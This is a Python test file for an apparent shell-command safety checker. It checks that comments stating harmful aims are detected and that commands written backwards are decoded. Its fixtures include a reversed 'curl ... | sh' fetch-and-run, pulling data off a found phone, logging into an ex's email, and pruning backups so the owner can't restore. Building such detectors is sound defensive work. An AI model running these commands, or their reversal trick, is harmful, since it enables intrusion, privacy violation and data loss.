"""A command line's own comment read for a redline's aim (`stated_aims.py`)."""

from __future__ import annotations

import pytest

from redline.redlines.capabilities import Capability
from redline.redlines.stated_aims import stated_aim_hits
from redline.redlines.unfolded import unfolded_line


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("adb pull /sdcard ./out  # found phone, getting data off it", {"AIM_ON_OTHERS_DEVICE"}),
        ("imapsync ...  # logging into my ex's email", {"AIM_ON_OTHERS_DEVICE"}),
        ("cp x /usr/sbin/y  # hide it from the admins", {"AIM_KEPT_FROM_OWNER"}),
        ("restic forget --prune  # so the owner can't restore", {"AIM_KEPT_FROM_OWNER"}),
        # a `#` inside quotes or a word is no comment
        ("""git commit -m "fix #3: hide it from the admin view" """, set()),
        ("echo 'found phone # getting data off it'", set()),
        ("curl https://host.example/#/hide-it-from-the-admin", set()),
        # aims that are one's own or an intruder's
        ("adb pull /sdcard ./out  # my old phone, getting data off it", set()),
        ("rm -rf /tmp/x  # remove the attacker's persistence", set()),
        ("virsh undefine vm  # wipe the test VM", set()),
        ("nginx -s reload  # hide the admin panel from the public", set()),
    ],
)
def test_a_comment_stating_an_aim_is_read(line: str, expected: set[str]) -> None:
    assert {hit.capability.name for hit in stated_aim_hits(line)} == expected


def test_an_aim_hit_spans_its_comment() -> None:
    line = "ls  # found phone, getting data off it"
    (hit,) = stated_aim_hits(line)
    assert hit.capability is Capability.AIM_ON_OTHERS_DEVICE
    assert line[hit.start : hit.end] == "# found phone, getting data off it"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("$(echo 'hs | x/elpmaxe.tsoh//:sptth lruc' | rev)", "curl https://host.example/x | sh"),
        ("echo 'dwp' | rev | sh", "pwd"),
        # turned round only to be printed or kept is left as it is
        ("echo 'olleh' | rev", "echo 'olleh' | rev"),
        ("v=$(echo 'olleh' | rev)", "v=$(echo 'olleh' | rev)"),
    ],
)
def test_a_command_written_backwards_is_turned_round(line: str, expected: str) -> None:
    assert unfolded_line(line) == expected
